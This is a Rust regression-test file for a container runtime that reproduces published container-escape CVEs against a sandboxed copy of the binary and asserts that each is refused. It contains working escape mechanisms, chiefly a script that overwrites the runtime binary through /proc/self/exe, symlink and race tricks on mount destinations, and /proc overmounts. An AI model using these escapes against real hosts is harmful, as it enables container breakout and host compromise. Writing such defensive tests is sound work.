//! Regression tests for published container-escape advisories, each
//! reproducing the advisory's mechanism against the real binary. The
//! table of advisories, tests and results is in docs/escapes.md.
//!
//! The runtime under test is a private copy of the `ironcell` binary (or of
//! the binary named by `ESCAPE_TEST_RUNTIME`, to show that a test fails on a
//! runtime with the flaw: `ESCAPE_TEST_RUNTIME=/usr/sbin/runc` runs them
//! against Debian's runc), so that a successful attack overwrites the copy
//! and never the build's own binary. Every test drives the runtime through
//! runc's command line only (`--root`, `run`, `create`, `start`, `exec`,
//! `delete`), so any runc-compatible runtime can be put in its place.

mod common;

use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::*;
use serde_json::{json, Value};

/// One test's runtime copy, state root and rootfs.
struct Escape {
    dir: tempfile::TempDir,
    runtime: PathBuf,
    root: PathBuf,
    rootfs: PathBuf,
}

impl Escape {
    fn new() -> Escape {
        let dir = tempfile::Builder::new()
            .prefix("ironcell-escape-")
            .tempdir()
            .unwrap();
        let source = std::env::var_os("ESCAPE_TEST_RUNTIME")
            .map(PathBuf::from)
            .unwrap_or_else(ironcell);
        let bin = dir.path().join("bin");
        fs::create_dir(&bin).unwrap();
        let runtime = bin.join("ironcell");
        fs::copy(&source, &runtime).unwrap();
        let rootfs = dir.path().join("rootfs");
        let status = Command::new("cp")
            .arg("-a")
            .arg(image().join("rootfs"))
            .arg(&rootfs)
            .status()
            .unwrap();
        assert!(status.success());
        copy_shared_libraries(&runtime, &rootfs);
        fs::create_dir_all(rootfs.join("tmp")).unwrap();
        fs::set_permissions(rootfs.join("tmp"), fs::Permissions::from_mode(0o1777)).unwrap();
        Escape {
            root: dir.path().join("state"),
            runtime,
            rootfs,
            dir,
        }
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = Command::new(&self.runtime);
        c.arg("--root").arg(&self.root).args(args);
        c.stdin(Stdio::null());
        c
    }

    /// Runs to completion and asserts success. Output goes through files:
    /// a detached container would hold a pipe open.
    fn ok(&self, args: &[&str]) -> Output {
        let out = output_via_files(&mut self.cmd(args));
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        out
    }

    /// A bundle over the shared rootfs running `argv`.
    fn bundle(&self, name: &str, argv: &[&str], edit: impl FnOnce(&mut Value)) -> PathBuf {
        let mut config: Value =
            serde_json::from_str(&fs::read_to_string(image().join("bundle/config.json")).unwrap())
                .unwrap();
        config["root"] = json!({"path": self.rootfs, "readonly": false});
        config["process"]["args"] = json!(argv);
        config["linux"]["cgroupsPath"] = json!(format!("/ironcell-test/{name}"));
        edit(&mut config);
        let dir = self.dir.path().join(name);
        fs::create_dir(&dir).unwrap();
        fs::write(dir.join("config.json"), config.to_string()).unwrap();
        dir
    }

    /// Runs to completion, asserting nothing.
    fn attempt(&self, args: &[&str]) -> Output {
        output_via_files(&mut self.cmd(args))
    }

    /// The verdict the container left in its /tmp/result, if any.
    fn verdict(&self) -> Option<String> {
        fs::read_to_string(self.rootfs.join("tmp/result")).ok()
    }

    fn clear_verdict(&self) {
        let _ = fs::remove_file(self.rootfs.join("tmp/result"));
    }

    /// Runs bundle `bundle` as `id` in the foreground. Returns the
    /// container's verdict, or the runtime's error when it refused (no
    /// verdict and a failure status).
    fn run_for_verdict(&self, bundle: &Path, id: &str) -> Result<String, String> {
        self.clear_verdict();
        let out = self.attempt(&["run", "-b", bundle.to_str().unwrap(), id]);
        let _ = self.attempt(&["delete", "--force", id]);
        match self.verdict() {
            Some(v) => Ok(v),
            None => {
                assert!(
                    !out.status.success(),
                    "{id} ran but left no verdict: {}",
                    String::from_utf8_lossy(&out.stderr)
                );
                Err(String::from_utf8_lossy(&out.stderr).trim().to_string())
            }
        }
    }

    /// A file on the host, outside the rootfs, that no container may see.
    fn host_marker(&self) -> PathBuf {
        let p = self.dir.path().join("host-marker");
        if !p.exists() {
            fs::write(&p, "host\n").unwrap();
        }
        p
    }

    fn runtime_digest(&self) -> Vec<u8> {
        fs::read(&self.runtime).unwrap()
    }

    /// Waits for the observer's verdict in the rootfs.
    fn result(&self) -> String {
        let path = self.rootfs.join("tmp/result");
        let start = Instant::now();
        loop {
            if let Ok(s) = fs::read_to_string(&path) {
                if s.ends_with('\n') {
                    return s;
                }
            }
            if start.elapsed() > Duration::from_secs(30) {
                let tmp = self.rootfs.join("tmp");
                let files: Vec<String> = fs::read_dir(&tmp)
                    .unwrap()
                    .flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .collect();
                panic!(
                    "the container never wrote its verdict; its /tmp holds {files:?}, err: {:?}",
                    fs::read_to_string(tmp.join("err")).unwrap_or_default()
                );
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

/// A dynamically linked runtime (a debug build) runs inside the
/// container only with its loader and libraries there: copies them into
/// `rootfs` at their host paths. A static binary needs none.
fn copy_shared_libraries(binary: &Path, rootfs: &Path) {
    let out = Command::new("ldd").arg(binary).output().unwrap();
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        let path = line
            .split_whitespace()
            .find(|w| w.starts_with('/'))
            .map(PathBuf::from);
        if let Some(lib) = path {
            let dst = rootfs.join(lib.strip_prefix("/").unwrap());
            fs::create_dir_all(dst.parent().unwrap()).unwrap();
            fs::copy(&lib, &dst).unwrap();
        }
    }
}

impl Drop for Escape {
    fn drop(&mut self) {
        if let Ok(entries) = fs::read_dir(&self.root) {
            for e in entries.flatten() {
                let id = e.file_name().to_string_lossy().to_string();
                let _ = self
                    .cmd(&["delete", "--force", &id])
                    .stdout(Stdio::null())
                    .stderr(Stdio::null())
                    .status();
            }
        }
    }
}

/// The attacker, as the container's own init (`/bin/sh /attack.sh`, so
/// that its command line does not hold the marker): finds the process
/// whose command line holds `marker` (the runtime's binary running in the
/// container's pid namespace), keeps `/proc/<pid>/exe` open, releases the
/// process (`release`), waits until it no longer runs and the host says
/// `go`, then tries to overwrite the file behind the link, as
/// CVE-2019-5736's exploit does. The verdict goes to /tmp/result.
fn write_attacker(rootfs: &Path, marker: &str, release: &str) {
    let script = format!(
        r#"while :; do
  for d in /proc/[0-9]*; do
    case "$(tr '\0' ' ' < $d/cmdline 2>/dev/null)" in *"{marker}"*) P=${{d#/proc/}}; break 2;; esac
  done
  sleep 0.02
done
if ! (exec 3< /proc/$P/exe) 2>/tmp/err; then echo "NOT-OPENED $(cat /tmp/err)" > /tmp/result; exec sleep 1000; fi
exec 3< /proc/$P/exe
echo opened > /tmp/opened
{release}
while [ -e /proc/$P/exe ]; do sleep 0.02; done
while [ ! -e /tmp/go ]; do sleep 0.02; done
i=0
while [ $i -lt 50 ]; do
  if (echo pwned > /proc/self/fd/3) 2>/tmp/err; then echo WROTE > /tmp/result; exec sleep 1000; fi
  i=$((i + 1)); sleep 0.1
done
echo "REFUSED $(cat /tmp/err)" > /tmp/result
exec sleep 1000
"#
    );
    fs::write(rootfs.join("attack.sh"), script).unwrap();
}

fn assert_refused(e: &Escape, before: &[u8]) {
    let verdict = e.result();
    assert!(
        verdict.starts_with("REFUSED"),
        "the container overwrote the runtime's binary: {verdict}"
    );
    assert!(
        verdict.contains("Read-only file system") || verdict.contains("Operation not permitted"),
        "refused for another reason than a sealed binary: {verdict}"
    );
    assert_eq!(e.runtime_digest(), before, "the runtime's binary changed");
}

/// CVE-2019-5736 through `exec`: a program in the container that is a link
/// to /proc/self/exe runs the runtime's binary inside the container; the
/// container's init opens it through /proc and writes it once the runtime
/// has exited. The exec'd runtime is held in place by a FIFO it opens as
/// its log (the opening blocks until the attacker opens the other end).
#[test]
fn cve_2019_5736_exec_of_proc_self_exe_cannot_overwrite_the_runtime() {
    if !need_root("cve_2019_5736_exec_of_proc_self_exe_cannot_overwrite_the_runtime") {
        return;
    }
    let e = Escape::new();
    symlink("/proc/self/exe", e.rootfs.join("bin/evil")).unwrap();
    nix::unistd::mkfifo(
        &e.rootfs.join("tmp/ironcell-gate"),
        nix::sys::stat::Mode::from_bits_truncate(0o666),
    )
    .unwrap();
    write_attacker(
        &e.rootfs,
        "ironcell-gate",
        "cat /tmp/ironcell-gate > /dev/null",
    );
    let id = unique("cve5736-exec");
    let bundle = e.bundle(&id, &["/bin/sh", "/attack.sh"], |_| {});
    let before = e.runtime_digest();
    e.ok(&["run", "-d", "-b", bundle.to_str().unwrap(), &id]);

    let exec = e
        .cmd(&[
            "exec",
            &id,
            "/bin/evil",
            "--log",
            "/tmp/ironcell-gate",
            "list",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    assert!(
        e.rootfs.join("tmp/opened").exists(),
        "exec ended ({exec}) before the attacker saw it"
    );
    fs::write(e.rootfs.join("tmp/go"), "").unwrap();
    assert_refused(&e, &before);
    e.ok(&["delete", "--force", &id]);
}

/// CVE-2019-5736 through `create`: a container that joins another's pid
/// namespace (a pod sharing its process namespace) has an init that is the
/// runtime's binary until `start`; the other container opens it through
/// /proc while it waits, and writes it once it has been deleted.
#[test]
fn cve_2019_5736_created_container_in_a_shared_pid_namespace_cannot_overwrite_the_runtime() {
    if !need_root(
        "cve_2019_5736_created_container_in_a_shared_pid_namespace_cannot_overwrite_the_runtime",
    ) {
        return;
    }
    let e = Escape::new();
    let victim = unique("cve5736-victim");
    write_attacker(&e.rootfs, &victim, "");
    let id = unique("cve5736-attacker");
    // Reading another process's /proc/<pid>/exe needs ptrace access: the
    // victim's init holds every capability until it starts, so the
    // attacker is a container given CAP_SYS_PTRACE (a debugging sidecar).
    let bundle = e.bundle(&id, &["/bin/sh", "/attack.sh"], |c| {
        for set in ["bounding", "effective", "permitted"] {
            c["process"]["capabilities"][set]
                .as_array_mut()
                .unwrap()
                .push(json!("CAP_SYS_PTRACE"));
        }
    });
    let before = e.runtime_digest();
    e.ok(&["run", "-d", "-b", bundle.to_str().unwrap(), &id]);
    let state: Value = serde_json::from_slice(&e.ok(&["state", &id]).stdout).unwrap();
    let pid = state["pid"].as_i64().unwrap();

    let vbundle = e.bundle(&victim, &["/bin/true"], |c| {
        // libcontainer's cgroup v1 mount reads /proc/<own pid> through the
        // host's /proc, which names another process in a joined pid
        // namespace (a libcontainer bug not fixed yet); this test is about
        // the init's binary, not the cgroup mount.
        c["mounts"]
            .as_array_mut()
            .unwrap()
            .retain(|m| m["type"] != "cgroup");
        let ns = c["linux"]["namespaces"].as_array_mut().unwrap();
        for n in ns.iter_mut() {
            if n["type"] == "pid" {
                n["path"] = json!(format!("/proc/{pid}/ns/pid"));
            }
        }
    });
    e.ok(&["create", "-b", vbundle.to_str().unwrap(), &victim]);
    wait_until(|| e.rootfs.join("tmp/opened").exists() || e.rootfs.join("tmp/result").exists());
    assert!(
        e.rootfs.join("tmp/opened").exists(),
        "the attacker could not open the victim's binary: {}",
        e.result()
    );
    e.ok(&["delete", "--force", &victim]);
    fs::write(e.rootfs.join("tmp/go"), "").unwrap();
    assert_refused(&e, &before);
    e.ok(&["delete", "--force", &id]);
}

/// Drops the spec's mounts under /dev (keeping those in `keep`), so that
/// the image's own /dev, which the attacker controls, is the container's.
fn image_dev(config: &mut Value, keep: &[&str]) {
    config["mounts"].as_array_mut().unwrap().retain(|m| {
        let d = m["destination"].as_str().unwrap_or_default();
        !d.starts_with("/dev") || keep.contains(&d)
    });
}

fn push_mount(config: &mut Value, mount: Value) {
    config["mounts"].as_array_mut().unwrap().push(mount);
}

/// A shell fragment that writes `$1` as the verdict and ends.
const VERDICT: &str = "verdict() { echo \"$*\" > /tmp/result; exit 0; }";

/// CVE-2019-16884 (GHSA-fgv8-vj5c-2ppq): a volume over /proc, or a mount
/// over /proc/self/attr, makes the runtime's write of the LSM label
/// (`/proc/self/attr/exec`, AppArmor's or SELinux's) land in a plain file,
/// and the container runs unconfined. This host has no LSM, so the test
/// checks the mechanism: both mounts are refused before the container runs,
/// and the host file offered as attr/exec is never written.
#[test]
fn cve_2019_16884_a_mount_over_proc_self_attr_is_refused() {
    if !need_root("cve_2019_16884_a_mount_over_proc_self_attr_is_refused") {
        return;
    }
    let e = Escape::new();
    let fake = e.dir.path().join("fakeproc");
    fs::create_dir_all(fake.join("self/attr")).unwrap();
    fs::write(fake.join("self/attr/exec"), "").unwrap();
    fs::write(fake.join("FAKE"), "").unwrap();
    let attr = e.dir.path().join("attr-exec");
    fs::write(&attr, "").unwrap();
    let check = format!("{VERDICT}; [ -e /proc/FAKE ] && verdict FAKE-PROC; verdict RAN; ");
    let cases: [(&str, Value); 3] = [
        (
            "attr-bind",
            json!({"destination": "/proc/self/attr/exec", "type": "bind", "source": attr, "options": ["bind"]}),
        ),
        (
            "attr-dir",
            json!({"destination": "/proc/self/attr", "type": "bind", "source": fake.join("self/attr"), "options": ["rbind"]}),
        ),
        (
            "proc-volume",
            json!({"destination": "/proc", "type": "bind", "source": fake, "options": ["rbind"]}),
        ),
    ];
    for (name, mount) in cases {
        let id = unique(&format!("cve16884-{name}"));
        let b = e.bundle(&id, &["/bin/sh", "-c", &check], |c| {
            push_mount(c, mount);
            // Ask for a label, as docker does: on a host with an LSM, the
            // runtime writes it to /proc/self/attr/exec.
            c["process"]["apparmorProfile"] = json!("");
        });
        let r = e.run_for_verdict(&b, &id);
        eprintln!("cve-2019-16884 {name}: {r:?}");
        match r {
            Err(err) => assert!(
                err.contains("/proc"),
                "{name}: refused without naming /proc: {err}"
            ),
            Ok(v) => panic!("{name}: the mount over /proc was accepted and the container ran: {v}"),
        }
        assert_eq!(
            fs::read_to_string(&attr).unwrap(),
            "",
            "attr/exec stand-in written"
        );
    }
}

/// CVE-2023-27561 (GHSA-vpvm-3wq2-2wvm, CVE-2019-19921 re-introduced): a
/// volume whose destination is a symlink into /proc (an image's
/// `/evil -> proc`) is mounted over /proc once the symlink is followed,
/// though the destination as written is outside /proc. The test's volume
/// is a fake procfs: a runtime with the flaw runs the container over it.
#[test]
fn cve_2023_27561_a_volume_reaching_proc_through_a_symlink_is_refused() {
    if !need_root("cve_2023_27561_a_volume_reaching_proc_through_a_symlink_is_refused") {
        return;
    }
    let e = Escape::new();
    let fake = e.dir.path().join("fakeproc");
    fs::create_dir_all(fake.join("self/attr")).unwrap();
    fs::write(fake.join("FAKE"), "").unwrap();
    // Relative, so that they lead to the container's /proc whether they
    // are resolved in the rootfs or (wrongly) from the host's root.
    symlink("proc", e.rootfs.join("evil")).unwrap();
    symlink("proc/self", e.rootfs.join("evil-self")).unwrap();
    let check = format!(
        "{VERDICT}; [ -e /proc/FAKE ] && verdict FAKE-PROC; [ -e /proc/self/attr/FAKE ] && verdict FAKE-ATTR; verdict RAN"
    );
    fs::write(fake.join("self/attr/FAKE"), "").unwrap();
    for (name, dest, src) in [
        ("proc", "/evil", fake.clone()),
        ("attr", "/evil-self/attr", fake.join("self/attr")),
    ] {
        let id = unique(&format!("cve27561-{name}"));
        let b = e.bundle(&id, &["/bin/sh", "-c", &check], |c| {
            push_mount(
                c,
                json!({"destination": dest, "type": "bind", "source": src, "options": ["rbind"]}),
            );
        });
        let r = e.run_for_verdict(&b, &id);
        eprintln!("cve-2023-27561 {name}: {r:?}");
        if let Ok(v) = r {
            assert!(
                !v.starts_with("FAKE"),
                "{name}: the volume was mounted over /proc through {dest}: {v}"
            );
        }
    }
}

/// CVE-2021-30465 (GHSA-c3xm-pvg7-gh7r): a mount destination that becomes
/// a symlink between the runtime's check and its mount is followed with the
/// host's root, so the mount lands outside the rootfs. The symlink points
/// at `<rootfs>/escaped`, a host path that happens to lie in the rootfs:
/// a runtime that resolves it against the host's / mounts the volume where
/// the container sees it at /escaped; a confined one keeps the mount under
/// the rootfs at `<rootfs>/<rootfs>/escaped`. First the deterministic case
/// (the destination already is the symlink), then the race: a host thread
/// (standing in for a second container sharing the volume) swaps the
/// destination between a directory and the symlink while containers are
/// created, for a bounded time.
#[test]
fn cve_2021_30465_a_symlinked_mount_destination_stays_in_the_rootfs() {
    if !need_root("cve_2021_30465_a_symlinked_mount_destination_stays_in_the_rootfs") {
        return;
    }
    let e = Escape::new();
    let volume = e.dir.path().join("volume");
    fs::create_dir(&volume).unwrap();
    fs::write(volume.join("VOLUME"), "").unwrap();
    fs::create_dir(e.rootfs.join("vol")).unwrap();
    fs::create_dir(e.rootfs.join("escaped")).unwrap();
    let target = e.rootfs.join("escaped");
    let dest = e.rootfs.join("vol/d");
    let check = format!(
        "{VERDICT}; [ -e /escaped/VOLUME ] && verdict ESCAPED; [ -e /vol/d/VOLUME ] && verdict CONFINED; verdict ELSEWHERE"
    );
    let mount =
        json!({"destination": "/vol/d", "type": "bind", "source": volume, "options": ["rbind"]});

    symlink(&target, &dest).unwrap();
    let id = unique("cve30465");
    let b = e.bundle(&id, &["/bin/sh", "-c", &check], |c| {
        push_mount(c, mount.clone())
    });
    let r = e.run_for_verdict(&b, &id);
    eprintln!("cve-2021-30465 deterministic: {r:?}");
    if let Ok(v) = &r {
        assert!(
            !v.starts_with("ESCAPED"),
            "the symlink was followed on the host: {v}"
        );
    }

    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    // Stops the swapping thread when the test ends, failed or not.
    struct Stop(std::sync::Arc<std::sync::atomic::AtomicBool>);
    impl Drop for Stop {
        fn drop(&mut self) {
            self.0.store(true, std::sync::atomic::Ordering::Relaxed);
        }
    }
    let _stop = Stop(stop.clone());
    let flipper = {
        let stop = stop.clone();
        let (dest, target) = (dest.clone(), target.clone());
        std::thread::spawn(move || {
            let mut flips = 0u64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let _ = fs::remove_file(&dest).or_else(|_| fs::remove_dir(&dest));
                let _ = fs::create_dir(&dest);
                let _ = fs::remove_dir(&dest);
                let _ = symlink(&target, &dest);
                flips += 1;
            }
            flips
        })
    };
    let start = Instant::now();
    let (mut ran, mut refused, mut attempts) = (0, 0, 0);
    let mut escaped = None;
    while start.elapsed() < Duration::from_secs(12) && attempts < 40 {
        attempts += 1;
        let id = unique("cve30465-race");
        let b = e.bundle(&id, &["/bin/sh", "-c", &check], |c| {
            push_mount(c, mount.clone())
        });
        match e.run_for_verdict(&b, &id) {
            Ok(v) if v.starts_with("ESCAPED") => {
                escaped = Some(v);
                break;
            }
            Ok(_) => ran += 1,
            Err(_) => refused += 1,
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let flips = flipper.join().unwrap();
    eprintln!(
        "cve-2021-30465 race: {attempts} attempts, {ran} ran confined, {refused} refused, {flips} swaps"
    );
    assert!(
        escaped.is_none(),
        "a racing swap took the mount out of the rootfs: {escaped:?}"
    );
    assert!(flips > 0);
}

/// The file-descriptor check shared by the CVE-2024-21626 tests, as a
/// shell fragment: for every descriptor of the shell above 2, whether it
/// leads out of the container (a directory from which `..` reaches the
/// host's marker) or names a host file the container does not have.
fn fd_check(marker_rel: &str) -> String {
    format!(
        r#"for f in /proc/$$/fd/*; do
  n=${{f##*/}}; [ "$n" -gt 2 ] || continue
  t=$(readlink "$f") || continue
  echo "$n $t" >> /tmp/fds
  if (cd "$f" 2>/dev/null && cd ../../../../../../../../.. && [ -e "{marker_rel}" ]); then echo "LEAK $n $t" >> /tmp/leaks; fi
  if [ -d "$f" ] && [ "$(stat -L -c %d:%i "$f")" != "$(stat -c %d:%i "$t" 2>/dev/null)" ]; then echo "LEAK $n $t is outside the container" >> /tmp/leaks; fi
  case "$t" in /proc/*) ;; /*) [ -e "$t" ] || echo "HOSTFILE $n $t" >> /tmp/leaks;; esac
done"#
    )
}

/// CVE-2024-21626 (GHSA-xr7r-f8xq-vfvv, "Leaky Vessels"): a host
/// directory descriptor leaked into the container's init (runc leaked
/// /sys/fs/cgroup) lets `process.cwd = /proc/self/fd/N` or `exec --cwd`
/// start the process in the host's filesystem, from where `..` reaches
/// the host's /. The test tries every small N for both, and lists the
/// descriptors of the init and of an exec'd process: none may lead out.
/// A cwd or descriptor is out when it is not the directory the container
/// sees at its path (a host directory), or when `..` from it reaches a
/// marker file of the host's.
#[test]
fn cve_2024_21626_no_host_descriptor_or_cwd_reaches_the_container() {
    if !need_root("cve_2024_21626_no_host_descriptor_or_cwd_reaches_the_container") {
        return;
    }
    let e = Escape::new();
    let marker = e.host_marker();
    let rel = marker
        .strip_prefix("/")
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    // Escaped: the cwd is not the directory the container sees at its
    // path (a host directory), or `..` from it reaches the host's marker.
    let check = format!(
        "{VERDICT}; h=$(stat -c %d:%i .); t=$(stat -c %d:%i \"$(readlink /proc/self/cwd)\" 2>/dev/null); \
         [ \"$h\" = \"$t\" ] || verdict \"ESCAPED: the cwd ($(readlink /proc/self/cwd), $h) is not the container's\"; \
         cd ../../../../../../../../..; [ -e {rel} ] && verdict \"ESCAPED to the host's root\"; verdict CONFINED"
    );
    for n in 3..=12 {
        let cwd = format!("/proc/self/fd/{n}");
        let id = unique(&format!("cve21626-cwd{n}"));
        let b = e.bundle(&id, &["/bin/sh", "-c", &check], |c| {
            c["process"]["cwd"] = json!(cwd);
        });
        let r = e.run_for_verdict(&b, &id);
        eprintln!("cve-2024-21626 cwd {cwd}: {r:?}");
        if let Ok(v) = r {
            assert!(
                v.starts_with("CONFINED"),
                "process.cwd {cwd} reached the host: {v}"
            );
        }
    }

    // The init lists its descriptors, then waits for the execs.
    let id = unique("cve21626-exec");
    let init = format!(
        "{}; echo listed > /tmp/listed; exec sleep 1000",
        fd_check(&rel)
    );
    let b = e.bundle(&id, &["/bin/sh", "-c", &init], |_| {});
    e.ok(&["run", "-d", "-b", b.to_str().unwrap(), &id]);
    wait_until(|| e.rootfs.join("tmp/listed").exists());
    for n in 3..=12 {
        let cwd = format!("/proc/self/fd/{n}");
        e.clear_verdict();
        let out = e.attempt(&["exec", "--cwd", &cwd, &id, "/bin/sh", "-c", &check]);
        let v = e.verdict();
        eprintln!(
            "cve-2024-21626 exec --cwd {cwd}: {v:?} {}",
            String::from_utf8_lossy(&out.stderr).trim()
        );
        if let Some(v) = v {
            assert!(
                v.starts_with("CONFINED"),
                "exec --cwd {cwd} reached the host: {v}"
            );
        }
    }
    e.ok(&["exec", &id, "/bin/sh", "-c", &fd_check(&rel)]);
    let fds = fs::read_to_string(e.rootfs.join("tmp/fds")).unwrap_or_default();
    let leaks = fs::read_to_string(e.rootfs.join("tmp/leaks")).unwrap_or_default();
    eprintln!("cve-2024-21626 descriptors of the init and an exec'd process:\n{fds}");
    assert!(
        leaks.is_empty(),
        "host descriptors in the container:\n{leaks}"
    );
    e.ok(&["delete", "--force", &id]);
}

/// CVE-2025-31133 (GHSA-9493-h29p-rfm2): masked files are covered with a
/// bind of the container's /dev/null; when that is a symlink (an image
/// whose /dev is its own, or a race), the runtime binds whatever it points
/// to instead, e.g. a writable /proc/sys/kernel/core_pattern. The image's
/// /dev/null here points to /proc/sys/kernel/hostname (namespaced, so
/// harmless); the masked file /secret must end up /dev/null, or the create
/// be refused.
#[test]
fn cve_2025_31133_masked_paths_use_the_real_dev_null() {
    if !need_root("cve_2025_31133_masked_paths_use_the_real_dev_null") {
        return;
    }
    let e = Escape::new();
    fs::write(e.rootfs.join("secret"), "SECRET\n").unwrap();
    fs::create_dir_all(e.rootfs.join("dev")).unwrap();
    let _ = fs::remove_file(e.rootfs.join("dev/null"));
    symlink("/proc/sys/kernel/hostname", e.rootfs.join("dev/null")).unwrap();
    let check = format!(
        "{VERDICT}; [ -c /secret ] && verdict MASKED; verdict \"SUBVERTED $(cat /secret)\""
    );
    let id = unique("cve31133");
    let b = e.bundle(&id, &["/bin/sh", "-c", &check], |c| {
        image_dev(c, &[]);
        c["linux"]["maskedPaths"]
            .as_array_mut()
            .unwrap()
            .push(json!("/secret"));
    });
    let r = e.run_for_verdict(&b, &id);
    eprintln!("cve-2025-31133: {r:?}");
    match r {
        Ok(v) => assert!(
            v.starts_with("MASKED"),
            "the masked path is not /dev/null: {v}"
        ),
        // ironcell's refusal names the node (other runtimes word theirs).
        Err(err) if std::env::var_os("ESCAPE_TEST_RUNTIME").is_none() => assert!(
            err.contains("cannot make device node \"/dev/null\""),
            "{err}"
        ),
        Err(_) => {}
    }
    assert_eq!(
        fs::read_to_string(e.rootfs.join("secret")).unwrap(),
        "SECRET\n"
    );
}

/// Receives the console's pty master on a console socket, and keeps it
/// open until the receiver is dropped (the container's terminal would hang
/// up otherwise).
fn console_socket(path: &Path) -> std::sync::mpsc::Receiver<std::os::fd::OwnedFd> {
    use std::os::fd::{FromRawFd, OwnedFd};
    let listener = std::os::unix::net::UnixListener::bind(path).unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        use std::os::fd::AsRawFd;
        let Ok((conn, _)) = listener.accept() else {
            return;
        };
        let mut buf = [0u8; 256];
        let mut iov = [std::io::IoSliceMut::new(&mut buf)];
        let mut space = nix::cmsg_space!([std::os::fd::RawFd; 1]);
        let Ok(msg) = nix::sys::socket::recvmsg::<()>(
            conn.as_raw_fd(),
            &mut iov,
            Some(&mut space),
            nix::sys::socket::MsgFlags::empty(),
        ) else {
            return;
        };
        for c in msg.cmsgs().into_iter().flatten() {
            if let nix::sys::socket::ControlMessageOwned::ScmRights(fds) = c {
                for fd in fds {
                    // SAFETY: the descriptor was just received, owned by no one else.
                    let _ = tx.send(unsafe { OwnedFd::from_raw_fd(fd) });
                }
            }
        }
    });
    rx
}

/// CVE-2025-52565 (GHSA-qw9x-cqr3-wc7r): the pty is bind-mounted onto
/// /dev/console before maskedPaths and readonlyPaths apply; a /dev/console
/// that is a symlink makes the runtime create (truncate) and cover its
/// target instead, e.g. a writable /proc/sysrq-trigger. The image's
/// /dev/console points to its /victim: the create must be refused or the
/// console mounted on /dev/console itself, /victim untouched.
#[test]
fn cve_2025_52565_dev_console_symlink_is_not_followed() {
    if !need_root("cve_2025_52565_dev_console_symlink_is_not_followed") {
        return;
    }
    let e = Escape::new();
    fs::write(e.rootfs.join("victim"), "VICTIM\n").unwrap();
    fs::create_dir_all(e.rootfs.join("dev/pts")).unwrap();
    let _ = fs::remove_file(e.rootfs.join("dev/console"));
    symlink("/victim", e.rootfs.join("dev/console")).unwrap();
    let check = format!(
        "{VERDICT}; [ -c /victim ] && verdict \"COVERED $(ls -l /victim)\"; verdict \"INTACT $(cat /victim)\""
    );
    let id = unique("cve52565");
    let b = e.bundle(&id, &["/bin/sh", "-c", &check], |c| {
        image_dev(c, &["/dev/pts"]);
        c["process"]["terminal"] = json!(true);
    });
    let sock = e.dir.path().join("console.sock");
    let master = console_socket(&sock);
    e.clear_verdict();
    let out = e.attempt(&[
        "create",
        "--console-socket",
        sock.to_str().unwrap(),
        "-b",
        b.to_str().unwrap(),
        &id,
    ]);
    let verdict = if out.status.success() {
        let _pty = master.recv_timeout(Duration::from_secs(10));
        e.ok(&["start", &id]);
        let v = e.result();
        Ok(v)
    } else {
        Err(String::from_utf8_lossy(&out.stderr).trim().to_string())
    };
    eprintln!("cve-2025-52565: {verdict:?}");
    let _ = e.attempt(&["delete", "--force", &id]);
    assert_eq!(
        fs::read_to_string(e.rootfs.join("victim")).unwrap_or_default(),
        "VICTIM\n",
        "the console's symlink target was truncated: {verdict:?}"
    );
    if let Ok(v) = verdict {
        assert!(
            v.starts_with("INTACT"),
            "the pty covers the symlink's target: {v}"
        );
    }
}

/// CVE-2025-52881 (GHSA-cgrx-mc8f-2prm): the runtime's writes to /proc
/// (sysctls, LSM labels) go through the container's /proc, which a racing
/// container with shared mounts can overmount between the /proc mount and
/// the write, redirecting the write to a file of its choosing. A
/// createRuntime hook stands in for the racer, deterministically: it runs
/// in that window (after the mounts, before pivot_root) and bind-mounts a
/// host file over the container's /proc/sys/kernel/domainname. The spec's
/// sysctl `kernel.domainname` must reach the kernel, not the host file.
#[test]
fn cve_2025_52881_proc_writes_are_not_redirected_by_an_overmount() {
    if !need_root("cve_2025_52881_proc_writes_are_not_redirected_by_an_overmount") {
        return;
    }
    let e = Escape::new();
    let victim = e.dir.path().join("host-file");
    fs::write(&victim, "untouched\n").unwrap();
    let done = e.dir.path().join("overmounted");
    let hook = e.dir.path().join("racer.sh");
    fs::write(
        &hook,
        format!(
            "#!/bin/sh\npid=$(tr -d ' \\n' | sed -n 's/.*\"pid\":\\([0-9]*\\).*/\\1/p')\n\
             nsenter --mount=/proc/$pid/ns/mnt mount --bind {} {}/proc/sys/kernel/domainname && touch {}\n",
            victim.display(),
            e.rootfs.display(),
            done.display()
        ),
    )
    .unwrap();
    fs::set_permissions(&hook, fs::Permissions::from_mode(0o755)).unwrap();
    let id = unique("cve52881");
    let b = e.bundle(&id, &["/bin/sleep", "1000"], |c| {
        c["linux"]["sysctl"] = json!({"kernel.domainname": "pwned-52881"});
        c["hooks"] = json!({"createRuntime": [{"path": hook}]});
    });
    let out = e.attempt(&["run", "-d", "-b", b.to_str().unwrap(), &id]);
    let result = if out.status.success() {
        // The sysctl as the container's UTS namespace holds it, read
        // through the host's /proc (the container's is overmounted).
        let state: Value = serde_json::from_slice(&e.ok(&["state", &id]).stdout).unwrap();
        let pid = state["pid"].as_i64().unwrap();
        let domain = Command::new("nsenter")
            .arg(format!("--uts=/proc/{pid}/ns/uts"))
            .args(["cat", "/proc/sys/kernel/domainname"])
            .output()
            .unwrap();
        Ok(String::from_utf8_lossy(&domain.stdout).trim().to_string())
    } else {
        Err(String::from_utf8_lossy(&out.stderr).trim().to_string())
    };
    eprintln!("cve-2025-52881: {result:?}");
    let _ = e.attempt(&["delete", "--force", &id]);
    assert!(
        done.exists(),
        "the stand-in racer could not overmount /proc/sys/kernel/domainname: {result:?}"
    );
    assert_eq!(
        fs::read_to_string(&victim).unwrap(),
        "untouched\n",
        "the sysctl write was redirected to the host file"
    );
    if let Ok(domain) = result {
